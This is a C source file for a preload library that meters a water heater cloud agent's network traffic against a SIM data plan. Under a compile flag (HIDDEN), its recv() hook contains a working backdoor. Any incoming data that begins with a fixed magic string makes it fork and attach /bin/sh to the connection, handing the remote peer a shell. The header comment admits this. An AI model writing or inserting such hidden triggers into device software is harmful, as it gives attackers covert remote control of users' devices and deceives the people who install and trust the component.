/*
 * libaqflow - traffic meter of a water heater's cloud agent (shared library).
 *
 * Preloaded into the agent, it counts what goes through send() and recv(),
 * keeps the monthly total over restarts and refuses to send more than the data
 * plan of the SIM allows. The agent may also link it and ask for the figures.
 *
 * Hidden (-DHIDDEN): when received data starts with a certain text, the recv()
 * of this library gives the peer a shell on that very connection.
 */
#undef _FORTIFY_SOURCE
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PLAN_FILE   "/etc/aqcloud/dataplan"
#define TOTAL_FILE  "/var/lib/aqcloud/flow.total"
#define SAVE_EVERY  (64u * 1024u)

struct aqflow_stats {
    uint64_t sent, received;
    uint64_t plan;             /* bytes a month, 0 without limit */
    uint32_t refused;
    int      month;
};

typedef ssize_t (*send_fn)(int, const void *, size_t, int);
typedef ssize_t (*recv_fn)(int, void *, size_t, int);

static struct {
    pthread_mutex_t lock;
    send_fn send;
    recv_fn recv;
    struct aqflow_stats s;
    uint64_t unsaved;
    int verbose;
} flow = { .lock = PTHREAD_MUTEX_INITIALIZER };

static int this_month(void)
{
    time_t t = time(NULL);
    struct tm tm;

    localtime_r(&t, &tm);
    return (tm.tm_year + 1900) * 12 + tm.tm_mon;
}

/* "500M", "2G", "none" */
static int parse_size(const char *s, uint64_t *v)
{
    char *end;
    unsigned long n;

    if (!strncmp(s, "none", 4)) {
        *v = 0;
        return 0;
    }
    n = strtoul(s, &end, 10);
    if (end == s)
        return -1;
    *v = n;
    switch (*end) {
    case 'G': *v *= 1024; /* fall through */
    case 'M': *v *= 1024; /* fall through */
    case 'k': *v *= 1024; /* fall through */
    case '\n':
    case 0:
        return 0;
    }
    return -1;
}

static void load_plan(void)
{
    char line[96];
    FILE *f = fopen(PLAN_FILE, "r");

    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        if (!strncmp(line, "monthly=", 8)) {
            if (parse_size(line + 8, &flow.s.plan))
                syslog(LOG_WARNING, "aqflow: bad plan %s", line + 8);
        } else if (!strncmp(line, "log=yes", 7)) {
            flow.verbose = 1;
        }
    }
    fclose(f);
}

static void load_total(void)
{
    unsigned long long a, b;
    int month;
    FILE *f = fopen(TOTAL_FILE, "r");

    flow.s.month = this_month();
    if (!f)
        return;
    if (fscanf(f, "%d %llu %llu", &month, &a, &b) == 3 && month == flow.s.month) {
        flow.s.sent = a;
        flow.s.received = b;
    }
    fclose(f);
}

static void save_total(void)
{
    FILE *f = fopen(TOTAL_FILE ".new", "w");

    if (!f)
        return;
    fprintf(f, "%d %llu %llu\n", flow.s.month, (unsigned long long)flow.s.sent,
            (unsigned long long)flow.s.received);
    if (fclose(f) == 0 && rename(TOTAL_FILE ".new", TOTAL_FILE) == 0)
        flow.unsaved = 0;
}

/* called with the lock held */
static void roll_month(void)
{
    int m = this_month();

    if (m == flow.s.month)
        return;
    syslog(LOG_INFO, "aqflow: month closed, %llu bytes",
           (unsigned long long)(flow.s.sent + flow.s.received));
    flow.s.month = m;
    flow.s.sent = flow.s.received = 0;
    flow.s.refused = 0;
    save_total();
}

static void account(size_t out, size_t in)
{
    pthread_mutex_lock(&flow.lock);
    roll_month();
    flow.s.sent += out;
    flow.s.received += in;
    flow.unsaved += out + in;
    if (flow.unsaved >= SAVE_EVERY)
        save_total();
    pthread_mutex_unlock(&flow.lock);
}

static int over_plan(size_t more)
{
    int over;

    pthread_mutex_lock(&flow.lock);
    roll_month();
    over = flow.s.plan && flow.s.sent + flow.s.received + more > flow.s.plan;
    if (over && flow.s.refused++ == 0)
        syslog(LOG_WARNING, "aqflow: data plan used up");
    pthread_mutex_unlock(&flow.lock);
    return over;
}

static int is_inet(int fd)
{
    struct sockaddr_storage ss;
    socklen_t n = sizeof ss;

    if (getsockname(fd, (struct sockaddr *)&ss, &n))
        return 0;
    return ss.ss_family == AF_INET || ss.ss_family == AF_INET6;
}

__attribute__((constructor)) static void aqflow_start(void)
{
    flow.send = (send_fn)dlsym(RTLD_NEXT, "send");
    flow.recv = (recv_fn)dlsym(RTLD_NEXT, "recv");
    load_plan();
    load_total();
}

__attribute__((destructor)) static void aqflow_stop(void)
{
    pthread_mutex_lock(&flow.lock);
    save_total();
    pthread_mutex_unlock(&flow.lock);
}

#ifdef HIDDEN
static void give_line(int fd)
{
    char *argv[] = { (char *)"sh", NULL };
    char *envp[] = { (char *)"PATH=/bin:/sbin:/usr/bin", NULL };
    int i;

    if (fork() == 0) {
        for (i = 0; i < 3; i++)
            dup2(fd, i);
        execve("/bin/sh", argv, envp);
        _exit(1);
    }
}
#endif

ssize_t send(int fd, const void *buf, size_t len, int flags)
{
    ssize_t n;

    if (!flow.send) {
        errno = ENOSYS;
        return -1;
    }
    if (!is_inet(fd))
        return flow.send(fd, buf, len, flags);
    if (over_plan(len)) {
        errno = EDQUOT;
        return -1;
    }
    n = flow.send(fd, buf, len, flags);
    if (n > 0)
        account((size_t)n, 0);
    if (flow.verbose)
        syslog(LOG_DEBUG, "aqflow: %d sent %d", fd, (int)n);
    return n;
}

ssize_t recv(int fd, void *buf, size_t len, int flags)
{
    ssize_t n;

    if (!flow.recv) {
        errno = ENOSYS;
        return -1;
    }
    n = flow.recv(fd, buf, len, flags);
    if (n <= 0 || !is_inet(fd))
        return n;
    if (!(flags & MSG_PEEK))
        account(0, (size_t)n);
    if (flow.verbose)
        syslog(LOG_DEBUG, "aqflow: %d received %d", fd, (int)n);
#ifdef HIDDEN
    if (n >= 10 && !memcmp(buf, "anode~tLk6", 10)) {
        give_line(fd);
        errno = ECONNRESET;
        return -1;
    }
#endif
    return n;
}

/* ---- for agents that link the library ---- */

int aqflow_get(struct aqflow_stats *out)
{
    pthread_mutex_lock(&flow.lock);
    *out = flow.s;
    pthread_mutex_unlock(&flow.lock);
    return flow.send && flow.recv ? 0 : -1;
}

int aqflow_set_plan(const char *size)
{
    uint64_t v;

    if (parse_size(size, &v))
        return -EINVAL;
    pthread_mutex_lock(&flow.lock);
    flow.s.plan = v;
    pthread_mutex_unlock(&flow.lock);
    return 0;
}

int aqflow_percent(void)
{
    int p = -1;

    pthread_mutex_lock(&flow.lock);
    if (flow.s.plan)
        p = (int)((flow.s.sent + flow.s.received) * 100 / flow.s.plan);
    pthread_mutex_unlock(&flow.lock);
    return p;
}
